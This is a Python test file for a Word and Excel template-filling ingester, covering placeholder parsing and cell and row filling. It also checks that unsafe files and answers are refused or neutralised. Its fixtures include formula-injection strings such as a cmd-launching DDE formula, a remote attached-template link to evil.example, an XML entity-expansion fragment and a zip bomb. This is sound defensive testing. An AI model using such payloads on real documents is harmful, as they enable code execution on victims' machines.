"""Templates as files: what is let in, what is refused and where, and what stands in the finished file."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ingest.doctemplates import detached, fill, inspect, text_of
from kb.doctemplate_answers import Answers
from kb.doctemplate_fields import BadPlaceholders, parse
from kb.errors import (
    DamagedFile,
    EmptyFile,
    EncryptedFile,
    FileRefused,
    FileTooLarge,
    HostileFile,
    NoText,
    UnsupportedFormat,
)
from tests.ingest.office_templates import excel, part, texts, with_part, word
from tests.ingest.readers.office_files import ole2

FIELDS = tuple(map(parse, ("project.name", "date:日", "n")))
AWKWARD = "<b>&\"'</b> ]]> {{ project.name }} 𠮷祥 🚀 繁體"


def filled(content: bytes, name: str, answers: Answers, language: str = "zh", **how: bool) -> bytes:
    """The file with its answers, after having been let in."""
    return fill(content, name, inspect(content, name, language).fields, answers, language, **how)


def faults(content: bytes, name: str) -> list[str]:
    """What is wrong with a file's placeholders, in words."""
    with pytest.raises(BadPlaceholders) as raised:
        inspect(content, name)
    return [fault.sentence for fault in raised.value.faults]


def test_a_placeholder_that_word_cut_into_runs_is_filled() -> None:
    content = word(["项目：{", "{ proj", "ect.na", "me }", "}，", "{{date:审批", "日期}}", "。"])
    made = filled(content, "a.docx", Answers({"project.name": "湖滨", "审批日期": "2026-03-05"}))
    assert texts(made) == ["项目：湖滨，2026年3月5日。"]


def test_the_formatting_of_the_first_run_stays() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("甲")
    paragraph.add_run("{{ na").bold = True
    paragraph.add_run("me }}").italic = True
    paragraph.add_run("乙")
    out = io.BytesIO()
    document.save(out)
    made = docx.Document(io.BytesIO(filled(out.getvalue(), "a.docx", Answers({"name": "𠮷"}))))
    runs = [(run.text, run.bold) for run in made.paragraphs[0].runs if run.text]
    assert runs == [("甲", None), ("𠮷", True), ("乙", None)]


def test_whatever_is_answered_stands_there_literally() -> None:
    made = filled(word("说：{{ 话 }}。"), "a.docx", Answers({"话": AWKWARD + "\x00\x1b"}))
    assert texts(made) == [f"说：{AWKWARD}。"]
    assert "<b>" not in part(made, "word/document.xml").replace("&lt;b&gt;", "")


def test_line_breaks_become_paragraphs_where_a_long_text_stands_alone_and_breaks_elsewhere() -> (
    None
):
    content = word("{{ long:理由 }}", "另：{{ long:理由 }}")
    made = filled(content, "a.docx", Answers({"理由": "一\n二\n\n三"}))
    assert texts(made) == ["一", "二", "三", "另：一\n二\n\n三"]


def test_a_table_row_repeats_once_for_each_answer_and_counts() -> None:
    content = word(
        rows=[
            ["序号", "风险", "责任人"],
            ["{{ rownumber:R[] }}", "{{ long:R[].风险 }}", "{{ person:R[].人 }}／{{ 项目 }}"],
        ]
    )
    rows = [
        {"风险": "供应商停产\n第二货源未认证", "人": "白仲林"},
        {"风险": "Frost & snow", "人": ""},
    ]
    made = filled(content, "a.docx", Answers({"项目": "云梦"}, {"R": rows}))
    table = docx.Document(io.BytesIO(made)).tables[0]
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["序号", "风险", "责任人"],
        ["1", "供应商停产\n第二货源未认证", "白仲林／云梦"],
        ["2", "Frost & snow", "／云梦"],
    ]


def test_an_empty_list_leaves_one_row_and_open_fields_show_their_names() -> None:
    content = word("{{ project.code }}", rows=[["{{ rownumber:R[] }}", "{{ R[].风险 }}"]])
    assert texts(filled(content, "a.docx", Answers())) == ["【项目编号】", "1", "【风险】"]
    assert texts(filled(content, "a.docx", Answers(), "en"))[0] == "[Project code]"
    assert texts(filled(content, "a.docx", Answers(), mark_open=False)) == ["", "1", ""]


def test_headers_footers_text_boxes_and_nested_tables_are_filled() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{ project.name }}"
    document.sections[0].footer.paragraphs[0].text = "No. {{ project.code }}"
    box = (
        f'<w:r {nsdecls("w")} xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape><v:textbox><w:txbxContent>'
        "<w:p><w:r><w:t>{{ in the box }}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    paragraph: Any = document.add_paragraph("beside {{ outside }}")
    paragraph._p.append(parse_xml(box))
    outer = document.add_table(rows=1, cols=1).cell(0, 0)
    outer.add_table(rows=1, cols=1).cell(0, 0).text = "{{ R[].x }}"
    out = io.BytesIO()
    document.save(out)
    answers = Answers(
        {"project.name": "Tuas", "project.code": "CL-1", "in the box": "盒", "outside": "外"},
        {"R": [{"x": "1"}, {"x": "2"}]},
    )
    made = filled(out.getvalue(), "a.docx", answers, "en")
    result = docx.Document(io.BytesIO(made))
    assert result.sections[0].header.paragraphs[0].text == "Tuas"
    assert result.sections[0].footer.paragraphs[0].text == "No. CL-1"
    xml = part(made, "word/document.xml")
    assert "盒" in xml
    assert "beside 外" in result.paragraphs[0].text
    nested = result.tables[0].cell(0, 0).tables[0]
    assert [row.cells[0].text for row in nested.rows] == ["1", "2"]


def test_guidance_can_be_left_out_and_a_cell_keeps_its_paragraph() -> None:
    document = docx.Document()
    document.styles.add_style("Guidance", 1)
    document.add_paragraph("Say why.", style="Guidance")
    document.add_paragraph("{{ why }}")
    document.add_table(rows=1, cols=1).cell(0, 0).paragraphs[0].style = document.styles["Guidance"]
    document.tables[0].cell(0, 0).paragraphs[0].add_run("A hint.")
    out = io.BytesIO()
    document.save(out)
    answers = Answers({"why": "因为"})
    assert texts(filled(out.getvalue(), "a.docx", answers)) == ["Say why.", "因为", "A hint."]
    assert texts(filled(out.getvalue(), "a.docx", answers, guidance=False)) == ["因为", ""]


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (word("完整", "客户：{{ 客户"), "paragraph 2, “客户：{{ 客户”: a placeholder is opened"),
        (word(rows=[["a", "b"], ["c", "{{ data:x }}"]]), "table 1, row 2, cell 2, “{{ data:x }}”: there is no type"),
        (word("{{ R[].x }}"), "paragraph 1, “{{ R[].x }}”: “R[]” repeats a table row"),
        (word(rows=[["{{ R[].x }}", "{{ S[].y }}"]]), "one row repeats for “R[]” and “S[]”"),
        (word("{% for x in range(10**9) %}"), "paragraph 1, “{% for x in range(10**9) %}”: “{%” is no placeholder"),
        (word("{{ date:日 }}", "{{ number:日 }}"), "paragraph 2, “{{ number:日 }}”: “日” is defined twice"),
    ],
)  # fmt: skip
def test_bad_placeholders_are_refused_with_their_place_in_word(content: bytes, told: str) -> None:
    assert any(told in sentence for sentence in faults(content, "模板.docx"))


def test_every_fault_is_told_at_once() -> None:
    assert len(faults(word("{{ }}", "{{ a", "{{ choice:x }}"), "a.docx")) == 3


def test_loops_in_loops_are_refused() -> None:
    document = docx.Document()
    outer = document.add_table(rows=1, cols=2)
    outer.cell(0, 0).add_table(rows=1, cols=1).cell(0, 0).text = "{{ S[].y }}"
    outer.cell(0, 1).text = "{{ R[].x }}"
    out = io.BytesIO()
    document.save(out)
    assert any("no loops in loops" in sentence for sentence in faults(out.getvalue(), "a.docx"))


def test_a_sheet_is_filled_with_numbers_dates_and_texts() -> None:
    def dated(sheet: Any) -> None:
        sheet["B1"].number_format = "yyyy-mm-dd"

    content = excel(
        {
            "A1": "{{ project.name }}",
            "B1": "{{ date:日 }}",
            "C1": "{{ date:日 }}",
            "D1": "{{ number:数 }}",
            "E1": "{{ number:码 }}",
            "F1": "预算 {{ number:数 }} 万元",
        },
        dated,
    )
    answers = Answers({"project.name": AWKWARD, "日": "2026-03-05", "数": "1234.5", "码": "007"})
    sheet = load_workbook(io.BytesIO(filled(content, "a.xlsx", answers))).active
    assert sheet["A1"].value == AWKWARD
    assert sheet["B1"].value in {datetime(2026, 3, 5), date(2026, 3, 5)}  # noqa: DTZ001  cells know no zones
    assert sheet["C1"].value == "2026年3月5日"
    assert (sheet["D1"].value, sheet["E1"].value) == (1234.5, "007")
    assert sheet["F1"].value == "预算 1234.5 万元"


@pytest.mark.parametrize(
    "answer",
    [
        "=1+1",
        '=HYPERLINK("http://x.example")',
        "+1-2",
        "@SUM(A1)",
        "-2+3",
        "\t=1",
        "=cmd|'/C calc'!A0",
    ],
)
def test_an_answer_never_becomes_a_formula(answer: str) -> None:
    content = excel({"A1": "{{ a }}", "A2": "{{ R[].b }}", "B2": "{{ number:R[].c }}"})
    made = filled(content, "a.xlsx", Answers({"a": answer}, {"R": [{"b": answer, "c": ""}]}))
    sheet = load_workbook(io.BytesIO(made)).active
    for place in ("A1", "A2"):
        assert (sheet[place].data_type, sheet[place].value) == ("s", answer)
    assert "<f>" not in part(made, "xl/worksheets/sheet1.xml")


def test_rows_are_written_downwards_with_their_formulas_and_lists() -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    def prepared(sheet: Any) -> None:
        choice = DataValidation(type="list", formula1='"开,关"')
        choice.add("A3:A4")
        sheet.add_data_validation(choice)
        sheet.column_dimensions["A"].width = 10

    content = excel(
        {
            "A1": "风险",
            "C1": "=SUM(C3:C9)",
            "A3": "{{ R[].名 }}",
            "B3": "{{ number:R[].分 }}",
            "C3": "=B3*$B$1",
            "D3": "固定",
            "C4": "=B4*$B$1",
        },
        prepared,
    )
    rows = [{"名": "一" * 40, "分": "1"}, {"名": "二", "分": "2"}, {"名": "三", "分": "3"}]
    made = filled(content, "a.xlsx", Answers({}, {"R": rows}))
    sheet = load_workbook(io.BytesIO(made)).active
    assert [sheet.cell(row, 2).value for row in (3, 4, 5)] == [1, 2, 3]
    assert [sheet.cell(row, 3).value for row in (3, 4, 5)] == ["=B3*$B$1", "=B4*$B$1", "=B5*$B$1"]
    assert [sheet.cell(row, 4).value for row in (3, 4, 5)] == ["固定"] * 3
    assert str(sheet.data_validations.dataValidation[0].sqref) == "A3:A5"
    assert sheet.row_dimensions[3].height > sheet.row_dimensions[4].height


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (excel({"B7": "{{ choice:状态 }}"}), "sheet “Sheet”, cell B7, “{{ choice:状态 }}”: “状态” needs 2 to"),
        (excel({"A1": "{{ R[].x }}", "A5": "合计"}), "cell A5, “合计”: row 1 repeats downwards"),
        (excel({"A1": '="{{ x }}"'}), "cell A1, “\"{{ x }}\"”: a formula cannot be filled"),
        (excel({"A1": "{{ R[].x }}", "B1": "{{ S[].y }}"}), "one row repeats for"),
        (excel({"A1": "x"}, lambda sheet: setattr(sheet, "title", "{{ x }}")), "the name of a sheet cannot be filled"),
        (excel({"A1": "x"}, lambda sheet: setattr(sheet.oddHeader.left, "text", "{{ x")), "page header"),
    ],
)  # fmt: skip
def test_bad_placeholders_are_refused_with_their_place_in_excel(content: bytes, told: str) -> None:
    assert any(told in sentence for sentence in faults(content, "表.xlsx"))


def test_page_headers_of_a_sheet_are_filled_and_an_ampersand_stays_one() -> None:
    content = excel(
        {"A1": "x"}, lambda sheet: setattr(sheet.oddFooter.left, "text", "{{ project.name }}")
    )
    made = filled(content, "a.xlsx", Answers({"project.name": "R&D"}))
    assert "&amp;LR&amp;&amp;D" in part(made, "xl/worksheets/sheet1.xml")


MACROS = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
REMOTE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&b;</w:hdr>'


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (b"", "a.docx", EmptyFile),
        (b"hello", "a.docx", UnsupportedFormat),
        (b"%PDF-1.7", "a.docx", UnsupportedFormat),
        (word("x")[:400], "a.docx", FileRefused),
        (with_part(word("x"), "word/vbaProject.bin", b"x"), "a.docx", UnsupportedFormat),
        (with_part(word("x"), "[Content_Types].xml", MACROS), "a.docm", UnsupportedFormat),
        (with_part(word("x"), "word/_rels/settings.xml.rels", REMOTE), "a.docx", HostileFile),
        (with_part(word("x"), "word/header9.xml", ENTITIES), "a.docx", HostileFile),
        (with_part(word("x"), "word/footer9.xml", b"<w:ftr"), "a.docx", DamagedFile),
        (b"x" * (11 * 1024 * 1024), "a.docx", FileTooLarge),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.docx", FileRefused),
    ],
)
def test_a_file_that_is_no_harmless_form_is_refused(
    content: bytes, name: str, kind: type[FileRefused]
) -> None:
    with pytest.raises(kind):
        inspect(content, name)


def test_a_file_with_a_password_is_refused_as_such(tmp_path: Path) -> None:
    locked = ole2(tmp_path / "a.docx", {"EncryptionInfo": b"", "EncryptedPackage": b""})
    with pytest.raises(EncryptedFile):
        inspect(locked.read_bytes(), "a.docx")


def test_the_link_to_the_word_template_a_file_was_begun_from_is_taken_out() -> None:
    content = with_part(word("{{ a }}"), "word/_rels/settings.xml.rels", REMOTE)
    cut = detached(content, "a.docx")
    assert "attachedTemplate" not in part(cut, "word/_rels/settings.xml.rels")
    assert [field.name for field in inspect(cut, "a.docx").fields] == ["a"]
    for other in (word("x"), b"", b"no zip", b"PK\x03\x04 cut off"):
        try:
            assert detached(other, "a.docx") == other
        except DamagedFile:
            assert other.startswith(b"PK")


@settings(max_examples=30, deadline=None)
@given(cuts=st.lists(st.integers(1, 40), max_size=12))
def test_wherever_word_cuts_its_runs_the_result_is_the_same(cuts: list[int]) -> None:
    text = "甲{{ project.name }}乙{{date:日}}𠮷{{ n }}"
    places = sorted({0, *(min(cut, len(text)) for cut in cuts), len(text)})
    runs = [text[one:other] for one, other in pairwise(places)]
    answers = Answers({"project.name": "湖滨", "日": "2026-03-05", "n": ""})
    made = fill(word(runs), "a.docx", FIELDS, answers, "zh", mark_open=False)
    assert texts(made) == ["甲湖滨乙2026年3月5日𠮷"]


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    out = io.BytesIO(word("x"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/header9.xml", b" " * (20 * 1024 * 1024))
    with pytest.raises(HostileFile):
        inspect(out.getvalue(), "a.docx")


def test_what_is_not_touched_stays_byte_by_byte_and_the_same_answers_make_the_same_file() -> None:
    content = with_part(word("{{ a }}"), "customXml/item1.xml", b"<x>{{ not ours }}</x>")
    one = filled(content, "a.docx", Answers({"a": "x"}))
    assert one == filled(content, "a.docx", Answers({"a": "x"}))
    assert part(one, "customXml/item1.xml") == "<x>{{ not ours }}</x>"
    assert part(one, "word/styles.xml") == part(content, "word/styles.xml")


def test_the_preview_shows_labels_and_no_placeholder() -> None:
    body = inspect(word("# 标题", "{{ date:审批日期 * # 以签字为准 }}"), "a.docx", "zh").body
    assert "【审批日期】" in body
    assert not re.search(r"\{\{|以签字为准", body)


def test_the_language_is_found_where_nobody_said_it() -> None:
    assert inspect(word("项目章程：为什么做这个项目", "{{ a }}"), "a.docx").language == "zh"
    assert inspect(word("Why we do this project", "{{ a }}"), "a.docx").language == "en"
    assert inspect(word("{{ 项目背景 }}"), "a.docx").language == "zh"
    with pytest.raises(NoText):
        inspect(word(" "), "a.docx")


def test_an_answer_with_pictures_of_markdown_shows_none() -> None:
    made = filled(word("{{ a }}"), "a.docx", Answers({"a": "![x](http://evil.example/x.png)"}))
    assert "](http" not in text_of(made, "a.docx")[1].replace("\\]", "").replace("\\(", "")
